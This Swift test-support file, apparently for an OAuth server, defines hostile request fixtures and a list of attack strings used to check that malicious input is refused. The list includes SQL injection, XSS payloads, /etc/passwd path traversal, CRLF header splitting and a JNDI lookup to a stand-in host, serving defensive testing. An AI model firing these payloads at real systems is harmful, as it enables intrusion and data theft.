import Foundation
import HTTPTypes
import LatchkeyTestSupport

/// One malformed or malicious request and the exact answer it must get.
struct HostileRequest: Sendable, CustomStringConvertible {
  var name: String
  var method: HTTPRequest.Method = .post
  var uri: String
  var contentType: String? = "application/x-www-form-urlencoded"
  var body: [UInt8]?
  var headers: [(String, String)] = []
  var status: Int
  /// The OAuth `error` of a JSON answer, when the answer is an OAuth error.
  var error: String?

  var description: String { "\(method) \(uri) [\(name)]" }

  static func form(
    _ name: String, _ uri: String, _ pairs: [(String, String)], status: Int, error: String?,
    headers: [(String, String)] = []
  ) -> HostileRequest {
    HostileRequest(
      name: name, uri: uri, body: Array(FormEncoding.encode(pairs).utf8), headers: headers,
      status: status, error: error)
  }

  static func raw(
    _ name: String, _ uri: String, _ body: String,
    contentType: String? =
      "application/x-www-form-urlencoded", status: Int, error: String?
  ) -> HostileRequest {
    HostileRequest(
      name: name, uri: uri, contentType: contentType, body: Array(body.utf8), status: status,
      error: error)
  }

  static func get(_ name: String, _ uri: String, status: Int, error: String? = nil)
    -> HostileRequest
  {
    HostileRequest(
      name: name, method: .get, uri: uri, contentType: nil, status: status, error: error)
  }
}

/// Strings attackers put in every field: SQL and HTML/JS injection, path traversal, header
/// splitting, template and log injection, control and bidi characters, oversize values.
enum HostileStrings {
  static let all: [String] = [
    "' OR '1'='1' --",
    "\"; DROP TABLE clients; --",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "\r\nSet-Cookie: latchkey_session=evil",
    "{{7*7}}${7*7}",
    "${jndi:ldap://evil.example/a}",
    "\u{0}null\u{0}byte",
    "\u{202E}gnp.exe",
    "ａｄｍｉｎ",
    "😀👍🏽",
    String(repeating: "A", count: 8_192),
    "%00%0d%0a",
  ]

  /// Whether `value` holds a C0 control character or DEL (refused before any lookup).
  static func hasControlCharacter(_ value: String) -> Bool {
    value.utf8.contains { $0 < 0x20 || $0 == 0x7F }
  }
}
